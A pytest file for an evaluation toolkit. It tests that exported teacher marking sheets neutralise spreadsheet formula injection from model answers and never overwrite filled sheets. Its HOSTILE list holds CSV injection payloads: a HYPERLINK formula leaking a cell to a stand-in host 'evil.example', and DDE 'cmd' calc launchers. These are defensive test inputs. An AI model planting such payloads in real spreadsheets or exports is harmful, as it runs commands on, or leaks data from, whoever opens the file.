"""Issue 10 items 4 and 8: the teachers' marking sheet is never overwritten and never runs a formula.

A model's answer lands verbatim in ``marks.csv``, which teachers open in a spreadsheet: a cell that
starts with ``=``, ``+``, ``-``, ``@``, tab or CR would run as a formula. And ``grade export`` used to
overwrite a sheet the teachers had already filled.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO

from evalkit.report.synthetic import make_result, write_run

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_value(cell: str) -> str:
    """What a spreadsheet shows for a cell: a leading ' only says "text follows"."""
    return cell[1:] if cell.startswith("'") else cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click for the answer")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def evalkit(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "160"}
    return subprocess.run([sys.executable, "-m", "evalkit.cli", *args], capture_output=True, text=True, env=env,
                          timeout=180)


def _hostile_run(path: Path) -> Path:
    """A marked run of solutions whose answers (and one id, one paper name) are spreadsheet formulas."""
    results = [
        make_result(f"p-{k + 15}" if k else "=1+2", "wrong", points=0, max_points=12, response=text,
                    question=f"第{k + 15}题", metadata={"paper": "-2024-new-I" if k == 1 else "2024-new-I",
                                                         "number": k + 15, "type": "solution"}, grader="answer")
        for k, text in enumerate(HOSTILE)
    ]
    return write_run(path, results, model="openai:m", task="gaokao-math", metrics=("accuracy",))


def _rows(sheet: Path) -> list[dict[str, str]]:
    with sheet.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_no_cell_of_the_marking_sheet_starts_a_formula(tmp_path: Path) -> None:
    run = _hostile_run(tmp_path / "run")
    done = evalkit("grade", "export", str(run))
    assert done.returncode == 0, done.stderr
    rows = _rows(run / "grading" / "marks.csv")
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{key} cell {cell!r} would run as a formula"
    responses = {csv_value(r["id"]): r["response"] for r in rows}
    assert responses["=1+2"] == "'" + HOSTILE[0]  # shown as the text the model wrote
    assert {csv_value(r["response"]) for r in rows} == set(HOSTILE)


def test_a_neutralised_sheet_imports_back_with_its_ids_and_markers(tmp_path: Path) -> None:
    run = _hostile_run(tmp_path / "run")
    assert evalkit("grade", "export", str(run)).returncode == 0
    sheet = run / "grading" / "marks.csv"
    rows = _rows(sheet)
    for row in rows:
        row["mark"], row["marker"] = "3", "-Li"
    with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({k: "'" + v if k == "marker" else v for k, v in r.items()} for r in rows)
    done = evalkit("grade", "import", str(run), str(sheet))
    assert done.returncode == 0, done.stderr
    scores = {json.loads(line)["id"]: json.loads(line)["score"] for line in (run / "samples.jsonl").open()}
    assert scores["=1+2"]["points"] == 3
    assert {m["marker"] for s in scores.values() for m in s["details"]["marks"] if m["grader"] == "human"} == {"-Li"}


@pytest.mark.parametrize("text", [*HOSTILE, "'=already quoted", "plain", "", "3.5"])
def test_cells_round_trip(text: str) -> None:
    from evalkit.cli_grade import csv_cell, csv_value

    assert csv_value(csv_cell(text)) == text
    assert not csv_cell(text).startswith(FORMULA_STARTS)


def test_export_never_overwrites_a_filled_sheet(tmp_path: Path) -> None:
    run = _hostile_run(tmp_path / "run")
    assert evalkit("grade", "export", str(run)).returncode == 0
    sheet = run / "grading" / "marks.csv"
    rows = _rows(sheet)
    rows[0]["mark"], rows[1]["mark"], rows[2]["comment"] = "7", "4", "步骤不全"
    with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    filled = sheet.read_bytes()

    done = evalkit("grade", "export", str(run))  # a second export, before the marks are imported
    assert done.returncode == 0, done.stderr
    assert sheet.read_bytes() == filled, "the teachers' filled sheet was overwritten"
    assert (run / "grading" / "marks-2.csv").exists() and (run / "grading" / "marking-2.html").exists()
    assert "holds 3 rows of marks not yet imported" in done.stdout and "marks-2.csv" in done.stdout

    assert evalkit("grade", "import", str(run), str(sheet)).returncode == 0
    rows[2]["comment"] = ""  # comments are not imported: once cleared, nothing on the sheet would be lost
    with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    done = evalkit("grade", "export", str(run))
    assert done.returncode == 0 and "note:" not in done.stdout
    assert not (run / "grading" / "marks-3.csv").exists()
    assert {csv_value(r["id"]): r["mark"] for r in _rows(sheet)}[csv_value(rows[0]["id"])] == "7"


def test_importing_a_sheet_nobody_filled_says_so_and_changes_nothing(tmp_path: Path) -> None:
    run = _hostile_run(tmp_path / "run")
    assert evalkit("grade", "export", str(run)).returncode == 0
    before = (run / "samples.jsonl").read_bytes()
    done = evalkit("grade", "import", str(run), str(run / "grading" / "marks.csv"))
    assert done.returncode == 0, done.stderr
    assert "imported no marks" in done.stdout and "no row has a mark (fill its 'mark' column)" in done.stdout
    assert (run / "samples.jsonl").read_bytes() == before


def _solutions_run(path: Path, n: int) -> Path:
    """A run of ``n`` solutions p-1 … p-n, each given 0 of 12 by the machine."""
    results = [make_result(f"p-{k}", "wrong", points=0, max_points=12, response=f"解答 {k}", question=f"第{k}题",
                           metadata={"paper": "2024-new-I", "number": k, "type": "solution"}, grader="answer")
               for k in range(1, n + 1)]
    return write_run(path, results, model="openai:m", task="gaokao-math", metrics=("accuracy",))


def _fill(sheet: Path, marks: dict[str, str]) -> None:
    rows = _rows(sheet)
    for row in rows:
        row["mark"] = marks.get(csv_value(row["id"]), "")
    with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


@pytest.mark.parametrize(("n", "filled", "line"), [
    (3, {"p-1": "7", "p-3": "5"}, "1 row without a mark, left as it was: p-2"),
    (8, {"p-1": "7"}, "7 rows without a mark, left as they were: p-2, p-3, p-4, p-5, p-6 and 2 more"),
])
def test_importing_a_partly_filled_sheet_names_the_rows_left_blank(tmp_path: Path, n: int, filled: dict[str, str],
                                                                    line: str) -> None:
    run = _solutions_run(tmp_path / "run", n)
    assert evalkit("grade", "export", str(run)).returncode == 0
    sheet = run / "grading" / "marks.csv"
    _fill(sheet, filled)
    done = evalkit("grade", "import", str(run), str(sheet))
    assert done.returncode == 0, done.stderr
    out = done.stdout.splitlines()
    assert out[0] == f"imported {len(filled)} mark{'s' if len(filled) != 1 else ''} into {run}"
    assert out[1] == f"  note: {line}"
    scores = {json.loads(s)["id"]: json.loads(s)["score"] for s in (run / "samples.jsonl").open()}
    assert {sid: s["points"] for sid, s in scores.items() if sid in filled} == {k: float(v) for k, v in filled.items()}
    left = [s for sid, s in scores.items() if sid not in filled]
    assert left and all(s["points"] == 0 and s["grader"] == "answer" for s in left), "a blank row changed its item"


def test_a_fully_filled_sheet_has_no_blank_rows_note(tmp_path: Path) -> None:
    run = _solutions_run(tmp_path / "run", 2)
    assert evalkit("grade", "export", str(run)).returncode == 0
    sheet = run / "grading" / "marks.csv"
    _fill(sheet, {"p-1": "7", "p-2": "12"})
    done = evalkit("grade", "import", str(run), str(sheet))
    assert done.returncode == 0, done.stderr
    assert "without a mark" not in done.stdout
